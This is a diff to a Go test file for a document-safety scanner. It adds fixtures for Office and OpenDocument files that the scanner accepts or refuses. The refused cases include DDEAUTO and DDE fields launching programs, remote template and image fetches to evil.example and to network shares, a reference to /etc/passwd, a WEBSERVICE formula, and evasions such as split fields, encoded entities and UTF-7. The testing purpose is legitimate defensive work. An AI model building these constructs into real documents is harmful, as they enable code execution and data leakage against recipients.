@@ -35,6 +35,41 @@ func read(t *testing.T, name string) []byte {
 	return content
 }
 
+func openDocument(inside string) string {
+	const namespace = "urn:oasis:names:tc:opendocument:xmlns:"
+	text := `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:xlink="http://www.w3.org/1999/xlink"`
+	for _, prefix := range []string{"office", "text", "draw", "style", "meta", "form", "table", "script", "presentation"} {
+		text += ` xmlns:` + prefix + `="` + namespace + prefix + `:1.0"`
+	}
+	return text + `><office:scripts/>` + inside + `</office:document-content>`
+}
+
+// made is an OpenDocument letter with a part of its own.
+func made(name, inside string) []byte {
+	if strings.EqualFold(name, "content.xml") {
+		name = "Object 1/" + name
+	}
+	return make.ODT(make.Entry{Name: name, Content: openDocument(inside)})
+}
+
+func word(inside string) string {
+	return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + inside + `</w:document>`
+}
+
+// field is one of Word's, its instruction in pieces.
+func field(pieces ...string) string {
+	text := `<w:fldChar w:fldCharType="begin"/>`
+	for _, piece := range pieces {
+		text += "<w:r><w:instrText>" + piece + "</w:instrText></w:r>"
+	}
+	return text + `<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>`
+}
+
+// described is a document that says so of one of its parts.
+func described(kind string) []byte {
+	return make.Archive(make.Entry{Name: "[Content_Types].xml", Content: `<Types><Override ContentType="` + kind + `"/></Types>`}, make.Entry{Name: "word/document.xml", Content: "<x/>"})
+}
+
 func TestWhatIsAccepted(t *testing.T) {
 	t.Parallel()
 	for name, c := range map[string]struct {
@@ -56,6 +91,17 @@ func TestWhatIsAccepted(t *testing.T) {
 			make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "xl/workbook.xml", Content: "<workbook/>"}))}), examine.DOCX, false},
 		"table":        {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "xl/workbook.xml", Content: "<workbook/>"}), examine.XLSX, false},
 		"OpenDocument": {make.ODT(), examine.ODT, false},
+		"OpenDocument with links, a picture and the template it was made with": {make.ODT(
+			make.Entry{Name: "styles.xml", Content: openDocument(`<style:background-image/>`)},
+			make.Entry{Name: "meta.xml", Content: openDocument(`<meta:template xlink:href="file:///C:/Users/x/brev.ott"/><meta:auto-reload/>`)},
+			make.Entry{Name: "Object 1/content.xml", Content: openDocument(`<text:a xlink:href="https://example.org/">x</text:a>
+				<draw:a xlink:href="mailto:x@example.org"><draw:image xlink:href="Pictures/1.png"/></draw:a><draw:object xlink:href="./Object 2"/>
+				<form:form xlink:href=""/><table:table-cell table:formula="of:=SUM([.A1:.A2])"/>
+				<presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://example.org"/>
+				<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>`)}), examine.ODT, false},
+		"letter with a table of contents and links": {make.DOCX(make.Entry{Name: "word/footer1.xml", Content: word(
+			field(` TOC \o "1-3" `) + field(` HYPERLINK "https://example.org/DDE" `) + `<w:fldSimple w:instr=" PAGE "/>`)}), examine.DOCX, false},
+		"letter with data of another program": {make.DOCX(make.Entry{Name: "customXml/item1.xml", Content: "\xff\xfe<\x00x\x00/\x00>\x00"}), examine.DOCX, false},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -129,12 +175,33 @@ func TestWhatIsRefusedAndWhy(t *testing.T) {
 		"letter with an old Office document inside": {make.DOCX(make.Entry{Name: "word/media/image1.png", Content: string(make.OLE(false))}), examine.EmbeddedFiles},
 		"letter with a table with a macro": {make.DOCX(make.Entry{Name: "word/embeddings/a.xlsx", Content: string(make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"},
 			make.Entry{Name: "xl/workbook.xml", Content: "<x/>"}, make.Entry{Name: "xl/vbaProject.bin", Content: "x"}))}), examine.ActiveContent},
-		"letter that fetches its template": {relation("attachedTemplate", "http://evil.example/x.dotm"), examine.ActiveContent},
-		"letter that fetches from a share": {relation("attachedTemplate", `file:///\\evil\x.dotm`), examine.ActiveContent},
-		"letter that fetches a picture":    {relation("image", "http://evil.example/x.png"), examine.ActiveContent},
-		"letter that swells":               {make.DOCX(make.Entry{Name: "word/media/a.bin", Content: strings.Repeat("\x00", 210<<20)}), examine.TooComplex},
-		"letter with a way out":            {make.DOCX(make.Entry{Name: "word/../../evil.xml", Content: "x"}), examine.Broken},
-		"letter with one name twice":       {make.DOCX(make.Entry{Name: "word/document.XML", Content: "x"}), examine.Broken},
+		"letter that fetches its template":               {relation("attachedTemplate", "http://evil.example/x.dotm"), examine.ActiveContent},
+		"letter that fetches from a share":               {relation("attachedTemplate", `file:///\\evil\x.dotm`), examine.ActiveContent},
+		"letter that fetches a picture":                  {relation("image", "http://evil.example/x.png"), examine.ActiveContent},
+		"OpenDocument that listens":                      {made("content.xml", `<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>`), examine.ActiveContent},
+		"OpenDocument whose slide starts a program":      {made("Content.xml", `<presentation:event-listener presentation:action="execute" xlink:href="file:///c:/x.exe"/>`), examine.ActiveContent},
+		"OpenDocument that asks a program":               {made("content.xml", `<office:dde-source office:dde-application="cmd"/>`), examine.ActiveContent},
+		"OpenDocument that fetches a picture":            {made("content.xml", `<draw:image xlink:href="http://evil.example/x.png"/>`), examine.ActiveContent},
+		"OpenDocument that fetches one in its styles":    {made("styles.xml", `<style:background-image xlink:href="&#104;ttps://evil.example/x.png"/>`), examine.ActiveContent},
+		"OpenDocument whose chart fetches from a share":  {made("Object 1/content.xml", `<draw:image xlink:href="\\evil\x.png"/>`), examine.ActiveContent},
+		"OpenDocument that fetches a section":            {made("content.xml", `<text:section-source xlink:href=" //evil.example/x.odt"/>`), examine.ActiveContent},
+		"OpenDocument that fetches a file of the reader": {made("content.xml", `<text:section-source xlink:href="file:///etc/passwd"/>`), examine.ActiveContent},
+		"OpenDocument that goes elsewhere by itself":     {made("meta.xml", `<meta:auto-reload xlink:href="http://evil.example/"/>`), examine.ActiveContent},
+		"OpenDocument that fetches its template":         {made("meta.xml", `<meta:template xlink:href="file:////evil/x.ott"/>`), examine.ActiveContent},
+		"OpenDocument with a link that runs":             {made("content.xml", `<text:a xlink:href="vnd.sun.star.script:x$y?language=Basic"/>`), examine.ActiveContent},
+		"OpenDocument that sends a cell":                 {made("content.xml", `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>`), examine.ActiveContent},
+		"OpenDocument that declares what it fetches":     {make.ODT(make.Entry{Name: "styles.xml", Content: `<!DOCTYPE x [<!ATTLIST image href CDATA "http://evil.example">]><image/>`}), examine.Broken},
+		"OpenDocument in other letters":                  {make.ODT(make.Entry{Name: "styles.xml", Content: `<?xml version="1.0" encoding="UTF-7"?><x/>`}), examine.Broken},
+		"letter that asks a program":                     {make.DOCX(make.Entry{Name: "word/header1.xml", Content: word(`<w:fldSimple w:instr=" DDEAUTO c:\x.exe"/>`)}), examine.ActiveContent},
+		"letter that asks a program in pieces":           {make.DOCX(make.Entry{Name: "word/x.xml", Content: word(field("dd", "e", "Auto", ` c:\x.exe`))}), examine.ActiveContent},
+		"letter that asks a program with another field between": {make.DOCX(make.Entry{Name: "word/x.xml", Content: word(
+			`<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText>` + field(" PAGE ") + `<w:instrText>DE x</w:instrText>`)}), examine.ActiveContent},
+		"table that asks a program":               {make.DOCX(make.Entry{Name: "xl/externalLinks/externalLink1.xml", Content: `<externalLink><ddeLink ddeService="cmd"/></externalLink>`}), examine.ActiveContent},
+		"table with a sheet of macros":            {described("application/vnd.ms-excel.macrosheet+xml"), examine.ActiveContent},
+		"letter that spells its macros otherwise": {described("application/vnd.ms-word.document.macro&#69;nabled.main+xml"), examine.ActiveContent},
+		"letter that swells":                      {make.DOCX(make.Entry{Name: "word/media/a.bin", Content: strings.Repeat("\x00", 210<<20)}), examine.TooComplex},
+		"letter with a way out":                   {make.DOCX(make.Entry{Name: "word/../../evil.xml", Content: "x"}), examine.Broken},
+		"letter with one name twice":              {make.DOCX(make.Entry{Name: "word/document.XML", Content: "x"}), examine.Broken},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
